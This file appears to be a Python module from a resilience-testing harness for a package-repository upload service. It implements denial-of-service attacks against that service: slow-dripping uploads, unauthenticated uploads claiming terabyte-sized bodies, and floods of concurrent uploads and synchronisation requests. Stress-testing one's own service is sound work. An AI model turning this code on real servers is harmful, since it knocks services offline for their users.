"""Uploads that take a place and do not end."""

import contextlib
import itertools
import socket

from abuse import forged_deb, forged_rpm, service, wire
from abuse.attack import Attack, Tally, Target, in_threads


class Dripping:
    """An upload of which a byte comes now and then."""

    def __init__(self, connection: socket.socket, rest: bytes) -> None:
        self.connection, self._rest = connection, rest

    def drip(self) -> str:
        """What became of it: `held`, the answer, or `closed`."""
        self.connection.settimeout(0.002)
        try:
            received = self.connection.recv(4096)
            return received.split(b"\r\n", 1)[0].decode("latin-1")[9:12] if received else "closed"
        except TimeoutError:
            pass
        except OSError:
            return "closed"
        try:
            self.connection.sendall(self._rest[:1])
        except OSError:
            return "closed"
        self._rest = self._rest[1:] or b" "
        return "held"


def _form() -> tuple[bytes, str]:
    return wire.form([forged_deb.honest("dripping", 100_000)], "x")


def _open(target: Target, number: int, path: str, headers: dict[str, str], body: bytes, sent: int, length: int | None = None) -> Dripping:
    connection = wire.open_connection(target.address, target.source(number // 64), 5)
    wanted = {**headers, "Content-Length": str(length or len(body))}
    connection.sendall(wire.head("PUT", path, wanted) + body[:sent])
    return Dripping(connection, body[sent:])


def _keep_dripping(target: Target, tally: Tally, count: int, open_one) -> None:
    """Holds `count` of them for as long as the attack lasts; whoever is sent away comes again."""
    held: list[Dripping] = []
    most, numbers = 0, itertools.count()
    while not target.over:
        while len(held) < count and not target.over:
            try:
                held.append(open_one(next(numbers) % count))
            except OSError as error:
                tally.count(type(error).__name__)
                target.wait(0.1)
        for upload in list(held):
            outcome = upload.drip()
            if outcome != "held":
                tally.count(outcome)
                upload.connection.close()
                held.remove(upload)
        most = max(most, len(held))
        target.wait(2)
    tally.note(f"{len(held)} held at the end, {most} at most")
    for upload in held:
        upload.connection.close()


def one_user(target: Target, tally: Tally) -> None:
    body, content_type = _form()
    user = service.attackers()[target.number % 8]
    headers = {"Authorization": user.basic, "Content-Type": content_type}
    count = 70 if target.short else 500
    _keep_dripping(target, tally, count, lambda number: _open(target, number, f"/{service.ATTACKED_DEB}", headers, body, 200))


def one_user_one_address(target: Target, tally: Tally) -> None:
    body, content_type = _form()
    headers = {"Authorization": service.attackers()[1].basic, "Content-Type": content_type}
    count = 64 if target.short else 200
    _keep_dripping(target, tally, count, lambda number: _open(target, 0, f"/{service.ATTACKED_DEB}", headers, body, 200))


def eight_users(target: Target, tally: Tally) -> None:
    body, content_type = _form()
    users = itertools.cycle(service.attackers())

    def open_one(number: int) -> Dripping:
        return _open(
            target, number, f"/{service.ATTACKED_DEB}", {"Authorization": next(users).basic, "Content-Type": content_type}, body, 200
        )

    _keep_dripping(target, tally, 80 if target.short else 400, open_one)


def metadata(target: Target, tally: Tally) -> None:
    headers = {"Authorization": service.attackers()[2].basic}
    path = f"/-/metadata/{service.ATTACKED_RPM}/x86_64/comps"
    body = b"<comps>" + b" " * 100_000
    _keep_dripping(target, tally, 20 if target.short else 128, lambda number: _open(target, number, path, headers, body, 8))


def incoming(target: Target, tally: Tally) -> None:
    """As dput sends it; with and without a login, which dput sends only when it was asked."""
    _, body = forged_deb.honest("dripping", 100_000)

    def open_one(number: int) -> Dripping:
        headers = {"Authorization": service.attackers()[number % 4].basic} if number % 2 else {}
        return _open(target, number, f"/-/incoming/{service.ATTACKED_DEB}/p/dripping{number}_1_amd64.deb", headers, body, 70)

    _keep_dripping(target, tally, 80 if target.short else 400, open_one)


def without_login(target: Target, tally: Tally) -> None:
    body, content_type = _form()
    paths = itertools.cycle(
        [
            f"/{service.ATTACKED_DEB}",
            f"/-/metadata/{service.ATTACKED_RPM}/x86_64/comps",
            f"/-/incoming/{service.ATTACKED_DEB}/p/x_1_amd64.deb",
            "/live",
            "/-/health",
        ]
    )
    _keep_dripping(
        target,
        tally,
        100 if target.short else 1000,
        lambda number: _open(target, number, next(paths), {"Content-Type": content_type}, body, 200),
    )


def endless_without_login(target: Target, tally: Tally) -> None:
    """Bodies of terabytes without a login, as fast as the server reads: dput needs an answer only after the whole file."""
    piece = bytes(1 << 20)
    paths = [
        f"/-/incoming/{service.ATTACKED_DEB}/p/x_1_amd64.deb",
        f"/{service.ATTACKED_DEB}",
        f"/-/metadata/{service.ATTACKED_RPM}/x86_64/comps",
    ]

    def one(number: int) -> None:
        while not target.over:
            sent = 0
            with contextlib.suppress(OSError), contextlib.closing(
                wire.open_connection(target.address, target.source(number), 5)
            ) as connection:
                connection.sendall(wire.head("PUT", paths[number % 3], {"Content-Length": str(1 << 40)}))
                while not target.over:
                    connection.sendall(piece)
                    sent += 1
            tally.count(f"megabytes read of {paths[number % 3][:11]}", sent)
            tally.count("bodies")
            target.wait(0.05)

    in_threads(16, one)


def busy_uploads(target: Target, tally: Tally) -> None:
    """One user with many whole uploads at the same time, as fast as they are answered."""
    numbers = itertools.count()

    def one(client: int) -> None:
        user = service.attackers()[target.number % 8]
        while not target.over:
            name = f"busy-{target.number}-{next(numbers)}"
            answer = wire.upload(
                target.address,
                service.ATTACKED_DEB,
                [forged_deb.honest(name, 200_000)],
                user=user,
                product="busy",
                source=target.source(client),
                timeout=60,
            )
            tally.count(answer)
            target.wait(0.1 if answer.status != 201 else 0)

    in_threads(4 if target.short else 32, one)


def synchronisations(target: Target, tally: Tally) -> None:
    """Limited users who ask for synchronisations without end, of one target and of hundreds."""
    asked = [
        (service.ATTACKED_DEB, service.attackers()[3]),
        (service.WIDE_ANCHOR, service.wide_attacker()),
        (service.ATTACKED_RPM, service.attackers()[4]),
    ]

    def one(client: int) -> None:
        left = 5 if target.short else 1 << 30
        where, user = asked[client % len(asked)]
        while left and not target.over:
            left -= 1
            tally.count(wire.request(target.address, "POST", f"/{where}", user=user, source=target.source(client), timeout=30))

    wire.upload(
        target.address,
        service.WIDE_ANCHOR,
        [forged_rpm.rpm("wide-first", architecture="noarch")],
        user=service.wide_attacker(),
        source=target.source(),
        timeout=max(5, target.left()),
    )
    in_threads(3 if target.short else 18, one)


ATTACKS = [
    Attack("drip-user", "500 dripping uploads of one user", one_user, short=True),
    Attack("drip-address", "200 dripping uploads of one user and address", one_user_one_address),
    Attack("drip-users", "400 dripping uploads of eight users", eight_users),
    Attack("drip-metadata", "128 dripping metadata uploads of one user", metadata, short=True),
    Attack("drip-incoming", "400 dripping dput uploads, half without a login", incoming, short=True),
    Attack("drip-no-login", "1000 stalled bodies without a login", without_login, short=True),
    Attack("endless-no-login", "bodies of terabytes without a login", endless_without_login),
    Attack("synchronisations", "synchronisations without end, of one target and of 726", synchronisations),
    Attack("busy-user", "32 uploads at once of one user, without a pause", busy_uploads),
]
